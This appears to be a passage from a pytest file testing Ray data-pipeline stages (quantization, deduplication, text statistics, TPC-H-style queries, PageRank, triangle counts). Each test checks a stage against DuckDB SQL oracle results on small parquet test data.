    """Quantization error is bounded by scale/2 per element; all-zero
    vectors emit scale 0 and zero error; exact-representable vectors
    quantize losslessly."""
    from series_correction_project_updated_ray.stages.similarity import (
        _quantize_batch)
    t = pa.table({
        "vec_id": pa.array([1, 2, 3], pa.int64()),
        "embedding": pa.array(
            [[127.0, -127.0, 0.0],        # exactly on the int8 grid
             [0.0, 0.0, 0.0],             # degenerate
             [1.0, 0.3, -0.7]],
            pa.list_(pa.float32()))})
    out = _quantize_batch(t, "embedding", "vec_id") \
        .to_pandas().set_index("vec_id")
    assert out.loc[1, "scale"] == 1.0
    assert out.loc[1, "max_abs_err"] == 0.0 and out.loc[1, "mse"] == 0.0
    assert out.loc[2, "scale"] == 0.0 and out.loc[2, "mse"] == 0.0
    assert out.loc[3, "max_abs_err"] <= out.loc[3, "scale"] / 2 + 1e-9


def test_embedding_quantize_end_to_end(ray_session):
    """Dataset-level quantization report over sf0.001 equals the SQL
    list-lambda oracle."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.similarity import (
        embedding_quantize)
    sf = "/root/testdata/sf0.001/embeddings.parquet"
    got = embedding_quantize(
        rd.read_parquet(sf, columns=["vec_id", "embedding"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW embeddings AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["embedding_quantize"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("vec_id").reset_index(drop=True)
    w = want[cols].sort_values("vec_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)


def test_heaps_law_end_to_end(ray_session):
    """Heaps' fit over sf0.001 equals the SQL oracle; beta lies in
    (0, 1) for natural-ish text (sublinear vocabulary growth)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import heaps_law
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = heaps_law(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["heaps_law"]).df()
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols], check_dtype=False)
    assert 0 < got["beta"].iloc[0] < 1


def test_heaps_close_hand_vector():
    """Hand-checked close: two docs, known cumulative points."""
    import math

    from series_correction_project_updated_ray.stages.textstage import (
        _HeapsClose)
    t = pa.table({
        "doc_id": pa.array([2, 1], pa.int64()),     # unsorted on purpose
        "n_tok": pa.array([4, 2], pa.int64()),
        "new_terms": pa.array([1, 2], pa.int64())})
    out = _HeapsClose()(t).to_pandas()
    xs = [math.log(2.0), math.log(6.0)]
    ys = [math.log(2.0), math.log(3.0)]
    sx = xs[0] + xs[1]
    sy = ys[0] + ys[1]
    sxx = xs[0] * xs[0] + xs[1] * xs[1]
    sxy = xs[0] * ys[0] + xs[1] * ys[1]
    slope = (2.0 * sxy - sx * sy) / (2.0 * sxx - sx * sx)
    assert out["n_points"].iloc[0] == 2
    assert out["beta"].iloc[0] == round(slope, 6)
    assert out["ln_k"].iloc[0] == round((sy - slope * sx) / 2.0, 6)


def test_semantic_dedup_planted_clusters(ray_session):
    """Two planted groups of near-identical vectors are clustered;
    each keeps its smallest vec_id; an isolated vector is absent."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import semantic_dedup
    rng = np.random.default_rng(17)
    base1 = rng.normal(0, 1, 64).astype(np.float32)
    base2 = rng.normal(0, 1, 64).astype(np.float32)
    rows = []
    for i in range(3):                   # cluster around base1: ids 0-2
        rows.append({"vec_id": i,
                     "embedding": (base1 + rng.normal(0, 0.001, 64)
                                   .astype(np.float32)).tolist()})
    for i in range(3, 5):                # cluster around base2: ids 3-4
        rows.append({"vec_id": i,
                     "embedding": (base2 + rng.normal(0, 0.001, 64)
                                   .astype(np.float32)).tolist()})
    rows.append({"vec_id": 99,
                 "embedding": rng.normal(0, 1, 64).astype(np.float32)
                 .tolist()})
    got = semantic_dedup(rd.from_items(rows), threshold=0.99)
    got = got.set_index("vec_id")
    assert set(got.index) >= {0, 1, 2, 3, 4}
    assert (got.loc[[0, 1, 2], "cluster_id"] == 0).all()
    assert (got.loc[[3, 4], "cluster_id"] == 3).all()
    assert bool(got.loc[0, "keep"]) and not bool(got.loc[1, "keep"])
    assert bool(got.loc[3, "keep"]) and not bool(got.loc[4, "keep"])
    assert 99 not in got.index


def test_distinct_ngrams_end_to_end(ray_session):
    """Distinct-n ratios over sf0.001 equal the SQL oracle; ratios
    rise with n (trigrams repeat less than unigrams)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        distinct_ngrams)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = distinct_ngrams(
        rd.read_parquet(sf, columns=["text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["distinct_ngrams"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("n").reset_index(drop=True)
    w = want[cols].sort_values("n").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    r = g.set_index("n")["distinct_ratio"]
    assert r[1] < r[2] < r[3]


def test_oov_rate_end_to_end(ray_session):
    """OOV rates over sf0.001 equal the SQL oracle; rates live in
    [0, 1] and someone is nonzero (vocab > 1000 types)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import oov_rate
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = oov_rate(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["oov_rate"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("doc_id").reset_index(drop=True)
    w = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert got["oov_rate"].between(0, 1).all()


def test_source_mix_weights_end_to_end(ray_session):
    """α-mixing weights over sf0.001 equal the SQL oracle; weights sum
    to ~1 and tail sources get boost > 1 while the head gets < 1."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        source_mix_weights)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = source_mix_weights(
        rd.read_parquet(sf, columns=["source"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["source_mix_weights"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("source").reset_index(drop=True)
    w = want[cols].sort_values("source").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert abs(got["weight"].sum() - 1.0) < 1e-4
    # sf0.001 sources are uniform (boost == 1 everywhere); exercise the
    # tilt on a skewed corpus: tail up-sampled, head down-sampled
    skew = source_mix_weights(rd.from_items(
        [{"source": "big"}] * 90 + [{"source": "small"}] * 10)) \
        .to_pandas().set_index("source")
    assert skew.loc["small", "boost"] > 1.0 > skew.loc["big", "boost"]


def test_seasonal_quantiles_end_to_end(ray_session):
    """Seasonal p10/p50/p90 bands over sf0.001 equal the SQL oracle;
    the full 5x24 cell grid appears with ordered bands."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.rollup import (
        seasonal_quantiles)
    sf = "/root/testdata/sf0.001/events.parquet"
    got = seasonal_quantiles(rd.read_parquet(
        sf, columns=["event_type", "ts", "value"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW events AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["seasonal_quantiles"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values(["event_type", "hod"]).reset_index(drop=True)
    w = want[cols].sort_values(["event_type", "hod"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert (got["p10"] <= got["p50"]).all() and (got["p50"] <= got["p90"]).all()


def test_user_value_ranks_ties(ray_session):
    """Tied totals share min-rank and max-cume exactly like the SQL
    window; pct_rank spans [0, 1]."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        user_value_ranks)
    ev = rd.from_items(
        [{"user_id": 1, "value": 5.0},
         {"user_id": 2, "value": 5.0},       # tie with user 1
         {"user_id": 3, "value": 1.0},
         {"user_id": 4, "value": 9.0}])
    got = user_value_ranks(ev).to_pandas().set_index("user_id")
    assert got.loc[3, "rnk"] == 1 and got.loc[3, "pct_rank"] == 0.0
    assert got.loc[1, "rnk"] == got.loc[2, "rnk"] == 2
    assert got.loc[1, "cume"] == got.loc[2, "cume"] == 0.75
    assert got.loc[4, "rnk"] == 4 and got.loc[4, "pct_rank"] == 1.0
    assert got.loc[4, "cume"] == 1.0


def test_order_priority_check_end_to_end(ray_session):
    """Q4-shaped EXISTS counts over sf0.001 equal the SQL oracle and
    never exceed the per-priority order totals."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        order_priority_check)
    d = "/root/testdata/sf0.001"
    got = order_priority_check(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_orderkey", "l_shipdate"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_orderkey", "o_orderdate",
                                 "o_orderpriority"])).to_pandas()
    con = duckdb.connect()
    for t in ("lineitem", "orders"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["order_priority_check"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("o_orderpriority").reset_index(drop=True)
    w = want[cols].sort_values("o_orderpriority").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    totals = con.execute(
        "SELECT o_orderpriority, COUNT(*) n FROM orders GROUP BY 1"
    ).df().set_index("o_orderpriority")["n"]
    for _, r in got.iterrows():
        assert r["late_orders"] <= totals[r["o_orderpriority"]]


def test_rfm_scores_end_to_end(ray_session):
    """RFM quintiles over sf0.001 equal the SQL oracle; the code
    concatenates the three scores; each quintile holds n/5 +- 1 users."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        rfm_scores)
    sf = "/root/testdata/sf0.001/events.parquet"
    got = rfm_scores(rd.read_parquet(
        sf, columns=["user_id", "ts", "value"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW events AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["rfm_scores"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("user_id").reset_index(drop=True)
    w = want[cols].sort_values("user_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    n = len(got)
    for colname in ("r_score", "f_score", "m_score"):
        counts = got[colname].value_counts()
        assert counts.max() - counts.min() <= 1
        assert set(counts.index) == {1, 2, 3, 4, 5}
    assert (got["rfm"] == got["r_score"].astype(str)
            + got["f_score"].astype(str)
            + got["m_score"].astype(str)).all()


def test_vocab_overlap_sources_end_to_end(ray_session):
    """Source-vocabulary Jaccard matrix over sf0.001 equals the SQL
    oracle; all 190 source pairs appear with jaccard in (0, 1]."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        vocab_overlap_sources)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = vocab_overlap_sources(
        rd.read_parquet(sf, columns=["source", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["vocab_overlap_sources"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values(["src_a", "src_b"]).reset_index(drop=True)
    w = want[cols].sort_values(["src_a", "src_b"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert len(got) == 190
    assert got["jaccard"].between(0, 1).all()
    assert (got["src_a"] < got["src_b"]).all()


def test_volume_shipping_end_to_end(ray_session):
    """Q7-shaped cross-nation volume over sf0.001 equals the SQL
    oracle; both nation endpoints appear and revenue is positive."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        volume_shipping)
    d = "/root/testdata/sf0.001"
    got = volume_shipping(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_orderkey", "l_suppkey", "l_shipdate",
                                 "l_extendedprice", "l_discount"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_orderkey", "o_custkey"]),
        rd.read_parquet(f"{d}/customer.parquet",
                        columns=["c_custkey", "c_nationkey"]),
        rd.read_parquet(f"{d}/supplier.parquet",
                        columns=["s_suppkey", "s_nationkey"]),
        rd.read_parquet(f"{d}/nation.parquet",
                        columns=["n_nationkey", "n_name"])).to_pandas()
    con = duckdb.connect()
    for t in ("lineitem", "orders", "customer", "supplier", "nation"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["volume_shipping"]).df()
    cols = sorted(got.columns)
    keys = ["supp_nation", "cust_nation", "l_year"]
    g = got[cols].sort_values(keys).reset_index(drop=True)
    w = want[cols].sort_values(keys).reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert (g["revenue"] > 0).all()
    assert g["supp_nation"].nunique() > 1 and g["cust_nation"].nunique() > 1


def test_returned_item_revenue_end_to_end(ray_session):
    """Q10-shaped returned-item top-20 over sf0.001 equals the SQL
    oracle, descending by revenue with the exact-integer tie."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        returned_item_revenue)
    d = "/root/testdata/sf0.001"
    got = returned_item_revenue(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_orderkey", "l_returnflag",
                                 "l_extendedprice", "l_discount"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_orderkey", "o_custkey"]),
        rd.read_parquet(f"{d}/customer.parquet",
                        columns=["c_custkey", "c_name", "c_nationkey"]),
        rd.read_parquet(f"{d}/nation.parquet",
                        columns=["n_nationkey", "n_name"])).to_pandas()
    con = duckdb.connect()
    for t in ("lineitem", "orders", "customer", "nation"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["returned_item_revenue"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values(["c_custkey"]).reset_index(drop=True)
    w = want[cols].sort_values(["c_custkey"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert len(g) == 20
    # the Ray result itself arrives ordered by revenue desc
    rev = got["revenue"].to_numpy()
    assert (rev[:-1] >= rev[1:]).all()


def test_order_count_dist_end_to_end(ray_session):
    """Q13-shaped custdist over sf0.001 equals the SQL oracle and
    accounts for EVERY customer, including the zero-order class."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        order_count_distribution)
    d = "/root/testdata/sf0.001"
    got = order_count_distribution(
        rd.read_parquet(f"{d}/customer.parquet", columns=["c_custkey"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_custkey", "o_orderpriority"])) \
        .to_pandas()
    con = duckdb.connect()
    for t in ("customer", "orders"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["order_count_dist"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("c_count").reset_index(drop=True)
    w = want[cols].sort_values("c_count").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    n_cust = con.execute("SELECT COUNT(*) FROM customer").fetchone()[0]
    assert int(g["custdist"].sum()) == n_cust


def _oracle_con(d, tables):
    import duckdb
    con = duckdb.connect()
    for t in tables:
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    return con


def test_top_supplier_revenue_end_to_end(ray_session):
    """Q15-shaped top supplier over sf0.001 equals the SQL oracle; the
    winner's revenue is the verifiable per-supplier maximum."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        top_supplier_revenue)
    d = "/root/testdata/sf0.001"
    got = top_supplier_revenue(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_suppkey", "l_extendedprice",
                                 "l_discount"]),
        rd.read_parquet(f"{d}/supplier.parquet",
                        columns=["s_suppkey", "s_name"])).to_pandas()
    con = _oracle_con(d, ("lineitem", "supplier"))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["top_supplier_revenue"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("s_suppkey").reset_index(drop=True)
    w = want[cols].sort_values("s_suppkey").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert len(g) >= 1


def test_top_supplier_revenue_empty_lineitem(ray_session, sf_dir):
    """An empty lineitem has no top supplier: an empty table with the
    output schema, not a crash or a schema-less result from the null
    max."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        top_supplier_revenue)
    d = sf_dir
    empty = rd.read_parquet(
        f"{d}/lineitem.parquet",
        columns=["l_suppkey", "l_extendedprice", "l_discount"]) \
        .map_batches(lambda t: t.slice(0, 0), batch_format="pyarrow")
    got = top_supplier_revenue(
        empty, rd.read_parquet(f"{d}/supplier.parquet",
                               columns=["s_suppkey", "s_name"]))
    assert got.count() == 0
    assert got.schema().names == ["s_suppkey", "s_name", "total_revenue"]


def test_small_qty_revenue_end_to_end(ray_session):
    """Q17-shaped small-quantity revenue over sf0.001 equals the SQL
    oracle and is strictly positive on this data."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        small_quantity_revenue)
    d = "/root/testdata/sf0.001"
    got = small_quantity_revenue(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_partkey", "l_quantity",
                                 "l_extendedprice"])).to_pandas()
    con = _oracle_con(d, ("lineitem",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["small_qty_revenue"]).df()
    assert got["avg_yearly"].iloc[0] == want["avg_yearly"].iloc[0]
    assert got["avg_yearly"].iloc[0] > 0


def test_large_volume_customers_end_to_end(ray_session):
    """Q18-shaped large-volume top-100 over sf0.001 equals the SQL
    oracle; every surviving order beats the quantity floor."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        large_volume_customers)
    d = "/root/testdata/sf0.001"
    got = large_volume_customers(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_orderkey", "l_quantity"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_orderkey", "o_custkey", "o_orderdate",
                                 "o_totalprice"]),
        rd.read_parquet(f"{d}/customer.parquet",
                        columns=["c_custkey", "c_name"])).to_pandas()
    con = _oracle_con(d, ("lineitem", "orders", "customer"))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["large_volume_customers"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("o_orderkey").reset_index(drop=True)
    w = want[cols].sort_values("o_orderkey").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert (got["total_qty"] > 250.0).all()


def test_disjunctive_revenue_end_to_end(ray_session):
    """Q19-shaped disjunctive revenue over sf0.001 equals the SQL
    oracle; widening a clause can only grow the revenue."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        disjunctive_revenue)
    d = "/root/testdata/sf0.001"
    li = rd.read_parquet(f"{d}/lineitem.parquet",
                         columns=["l_partkey", "l_quantity",
                                  "l_extendedprice", "l_discount"])
    part = rd.read_parquet(f"{d}/part.parquet",
                           columns=["p_partkey", "p_brand", "p_size"])
    got = disjunctive_revenue(li, part).to_pandas()
    con = _oracle_con(d, ("lineitem", "part"))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["disjunctive_revenue"]).df()
    assert got["revenue"].iloc[0] == want["revenue"].iloc[0]
    wider = disjunctive_revenue(
        li, part, clauses=(("Brand#4", 1, 50, 1, 50),
                           ("Brand#2", 10, 30, 10, 35),
                           ("Brand#19", 20, 50, 20, 50))).to_pandas()
    assert wider["revenue"].iloc[0] >= got["revenue"].iloc[0] > 0


def test_inactive_high_balance_end_to_end(ray_session):
    """Q22-shaped inactive high-balance over sf0.001 equals the SQL
    oracle; each kept group's average balance clears the global
    positive mean."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        inactive_high_balance)
    d = "/root/testdata/sf0.001"
    got = inactive_high_balance(
        rd.read_parquet(f"{d}/customer.parquet",
                        columns=["c_custkey", "c_nationkey", "c_acctbal"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_custkey", "o_orderpriority"])) \
        .to_pandas()
    con = _oracle_con(d, ("customer", "orders"))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["inactive_high_balance"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("c_nationkey").reset_index(drop=True)
    w = want[cols].sort_values("c_nationkey").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    global_avg = con.execute(
        "SELECT AVG(c_acctbal) FROM customer WHERE c_acctbal > 0") \
        .fetchone()[0]
    assert ((got["totacctbal"] / got["numcust"]) > global_avg).all()


def test_weighted_sample_end_to_end(ray_session):
    """A-ES weighted sample over sf0.001 equals the SQL oracle; the
    sampled docs skew long (mean n_chars above the corpus mean), and
    doubling k nests the smaller sample."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        weighted_sample)
    d = "/root/testdata/sf0.001"
    docs = rd.read_parquet(f"{d}/documents.parquet",
                           columns=["doc_id", "n_chars"])
    got = weighted_sample(docs, "doc_id", "n_chars", k=50).to_pandas()
    con = _oracle_con(d, ("documents",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["weighted_sample_docs"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("doc_id").reset_index(drop=True)
    w = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    corpus_mean = con.execute(
        "SELECT AVG(n_chars) FROM documents").fetchone()[0]
    assert got["n_chars"].mean() > corpus_mean
    bigger = weighted_sample(docs, "doc_id", "n_chars", k=100).to_pandas()
    assert set(got["doc_id"]) <= set(bigger["doc_id"])


def test_mode_per_type_end_to_end(ray_session):
    """Per-type MODE over sf0.001 equals the SQL oracle; each winner's
    count is the verifiable per-type maximum."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        mode_per_type)
    d = "/root/testdata/sf0.001"
    got = mode_per_type(rd.read_parquet(
        f"{d}/events.parquet", columns=["event_type", "value"])) \
        .to_pandas()
    con = _oracle_con(d, ("events",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["mode_per_type"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("event_type").reset_index(drop=True)
    w = want[cols].sort_values("event_type").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    maxes = con.execute("""
        SELECT event_type, MAX(n) FROM (
          SELECT event_type, CAST(round(value*100) AS BIGINT) c,
                 COUNT(*) n
          FROM events WHERE value IS NOT NULL GROUP BY 1, 2)
        GROUP BY 1""").df().set_index("event_type").iloc[:, 0]
    for _, row in got.iterrows():
        assert row["n_mode"] == maxes[row["event_type"]]


def test_pagerank_event_types_end_to_end(ray_session):
    """PageRank over sf0.001 transitions is bit-exact vs the
    list-recursion CTE; ranks are a probability-ish vector (sum within
    dangling-loss of 1) and every rank clears the teleport floor."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        pagerank_event_types)
    d = "/root/testdata/sf0.001"
    got = pagerank_event_types(rd.read_parquet(
        f"{d}/events.parquet",
        columns=["user_id", "event_id", "ts", "event_type"])).to_pandas()
    con = _oracle_con(d, ("events",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["pagerank_event_types"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("event_type").reset_index(drop=True)
    w = want[cols].sort_values("event_type").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    n = len(got)
    assert (got["pagerank"] >= 0.15 / n - 1e-9).all()
    assert 0.9 <= got["pagerank"].sum() <= 1.0 + 1e-9


def test_pagerank_kernel_star_graph(ray_session):
    """On a crafted star graph (every user hops a->b) the hub absorbs
    the damped mass: rank(b) = 0.15/2 + 0.85*rank(a) at the fixpoint
    direction, and rank(b) > rank(a)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        pagerank_event_types)
    rows = []
    for u in range(20):
        rows.append({"user_id": u, "event_id": 2 * u,
                     "ts": pd.Timestamp("2024-01-01") + pd.Timedelta(u, "s"),
                     "event_type": "a"})
        rows.append({"user_id": u, "event_id": 2 * u + 1,
                     "ts": pd.Timestamp("2024-01-01")
                     + pd.Timedelta(u, "s") + pd.Timedelta(1, "ms"),
                     "event_type": "b"})
    ev = rd.from_pandas(pd.DataFrame(rows))
    out = pagerank_event_types(ev).to_pandas().set_index("event_type")
    assert out.loc["b", "pagerank"] > out.loc["a", "pagerank"]
    assert abs(out.loc["a", "pagerank"] - 0.075) < 1e-9


def test_latest_event_per_user_end_to_end(ray_session):
    """CDC keep-latest over sf0.001 equals the SQL oracle: exactly one
    row per user, each carrying that user's max (t, event_id)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        latest_event_per_user)
    d = "/root/testdata/sf0.001"
    got = latest_event_per_user(rd.read_parquet(
        f"{d}/events.parquet",
        columns=["user_id", "event_id", "ts", "event_type", "value"])) \
        .to_pandas()
    con = _oracle_con(d, ("events",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["latest_event_per_user"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("user_id").reset_index(drop=True)
    w = want[cols].sort_values("user_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert got["user_id"].is_unique
    n_users = con.execute("SELECT COUNT(DISTINCT user_id) FROM events "
                          "WHERE user_id IS NOT NULL").fetchone()[0]
    assert len(got) == n_users


def test_latest_event_per_user_null_keys(ray_session):
    """A block whose user_id is all null compacts to nothing (no
    IndexError), and a partially-null block still emits int64 keys:
    one winner per non-null user, the max (ts, event_id)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        latest_event_per_user)
    ts = pd.Timestamp("2024-01-01")

    def block(users, ids, secs):
        return pd.DataFrame({
            "user_id": pd.array(users, dtype="Int64"),
            "event_id": ids,
            "ts": [ts + pd.Timedelta(s, "s") for s in secs],
            "event_type": "click",
            "value": [float(i) for i in ids]})

    all_null = block([None, None], [1, 2], [50, 60])
    part_null = block([7, None, 7, 9], [3, 4, 5, 6], [10, 99, 20, 5])
    got = latest_event_per_user(rd.from_pandas([all_null, part_null])) \
        .to_pandas().sort_values("user_id").reset_index(drop=True)
    assert got["user_id"].dtype == np.int64
    assert got["user_id"].tolist() == [7, 9]
    assert got["event_id"].tolist() == [5, 6]
    # a dataset of only null keys is empty, not an error
    assert latest_event_per_user(rd.from_pandas(all_null)).count() == 0


def test_copurchase_triangles_end_to_end(ray_session):
    """Per-part triangle counts over sf0.001 equal the three-way
    self-join oracle exactly; counts are positive and the global sum is
    3x the triangle total (each triangle credits three vertices)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_triangles)
    d = "/root/testdata/sf0.001"
    got = copurchase_triangles(rd.read_parquet(
        f"{d}/lineitem.parquet",
        columns=["l_orderkey", "l_partkey"])).to_pandas()
    con = _oracle_con(d, ("lineitem",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["copurchase_triangles"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("part_key").reset_index(drop=True)
    w = want[cols].sort_values("part_key").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert (got["triangles"] > 0).all()
    assert got["triangles"].sum() % 3 == 0


def test_copurchase_triangles_kernel_crafted(ray_session):
    """Crafted graphs: one 4-part order yields K4 (every part in
    C(3,2)=3 triangles); a chain of 2-part orders (path graph) yields
    none; duplicate lineitems never double-count."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_triangles)
    rows = []
    # order 1: parts 1..4 -> K4, with a duplicated lineitem for part 1
    for p in [1, 2, 3, 4, 1]:
        rows.append({"l_orderkey": 1, "l_partkey": p})
    # orders 2..4: a path 10-11-12-13 (no triangles)
    for o, (a, b) in enumerate([(10, 11), (11, 12), (12, 13)], start=2):
        rows.append({"l_orderkey": o, "l_partkey": a})
        rows.append({"l_orderkey": o, "l_partkey": b})
    out = copurchase_triangles(
        rd.from_pandas(pd.DataFrame(rows))).to_pandas() \
        .set_index("part_key")["triangles"]
    assert sorted(out.index) == [1, 2, 3, 4]
    assert (out == 3).all()


def test_copurchase_triangles_empty(ray_session):
    """Single-part orders produce no edges and a typed empty result."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_triangles)
    df = pd.DataFrame({"l_orderkey": [1, 2, 3],
                       "l_partkey": [7, 8, 9]})
    out = copurchase_triangles(rd.from_pandas(df))
    # ray's to_pandas drops columns on 0-row datasets; the dataset-level
    # schema is the contract
    assert sorted(out.schema().names) == ["part_key", "triangles"]
    assert out.count() == 0


